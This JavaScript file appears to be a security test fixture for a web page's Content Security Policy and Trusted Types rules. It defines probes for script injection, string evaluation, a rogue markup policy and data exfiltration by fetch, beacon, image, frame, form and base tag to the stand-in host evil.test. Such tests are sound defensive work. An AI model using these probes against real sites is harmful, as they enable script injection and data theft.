// Ways out of the page, or into it, that its rules close.

/** What an attacker in the page might try. Each runs in the page and answers whether it worked. */
export const attacks = {
  "an inline script": () => {
    const script = document.createElement("script");
    script.setAttribute("nonce", "x");
    try {
      script.text = "window.ran = true";
    } catch {}
    document.head.append(script);
    return "ran" in window;
  },
  "markup from text": () => {
    try {
      document.body.insertAdjacentHTML("beforeend", '<i id="made"></i>');
    } catch {}
    return document.querySelector("#made") !== null;
  },
  // In a timer, because the browser allows its debugger what it forbids the page.
  "a text as code": () =>
    new Promise((ended) => {
      setTimeout(() => {
        try {
          ended(new Function("return true")());
        } catch {
          ended(false);
        }
      });
    }),
  "a timer with a text": async () => {
    try {
      setTimeout("window.timed = true", 0);
    } catch {}
    await new Promise((passed) => setTimeout(passed, 50));
    return "timed" in window;
  },
  "a policy of its own for markup": () => {
    try {
      return trustedTypes.createPolicy("default", { createHTML: (text) => text }) !== undefined;
    } catch {
      return false;
    }
  },
  "a call to another host": () =>
    fetch("https://evil.test/", { method: "POST", body: "x" }).then(
      () => true,
      () => false,
    ),
  "a message to another host": () => {
    navigator.sendBeacon("https://evil.test/beacon", "x");
    return false;
  },
  "a picture of another host": () =>
    new Promise((ended) => {
      const picture = new Image();
      picture.onload = picture.onerror = ({ type }) => ended(type === "load");
      picture.src = "https://evil.test/x.png";
    }),
  "a frame": () =>
    new Promise((ended) => {
      const frame = document.createElement("iframe");
      frame.src = "https://evil.test/frame";
      document.body.append(frame);
      setTimeout(() => ended(false), 200);
    }),
  "a form to another host": () => {
    const form = document.createElement("form");
    form.action = "https://evil.test/form";
    document.body.append(form);
    form.submit();
    return new Promise((passed) => setTimeout(passed, 200)).then(() => location.host !== "app.test");
  },
  "a foreign base address": () => {
    const base = document.createElement("base");
    base.href = "https://evil.test/";
    document.head.append(base);
    return document.baseURI.startsWith("https://evil.test");
  },
  "a worker": () => {
    try {
      new Worker("/version.json");
      return true;
    } catch {
      return false;
    }
  },
  "a style in the page": () => {
    const style = document.createElement("style");
    style.textContent = "body { --planted: 1 }";
    document.head.append(style);
    return getComputedStyle(document.body).getPropertyValue("--planted") !== "";
  },
};
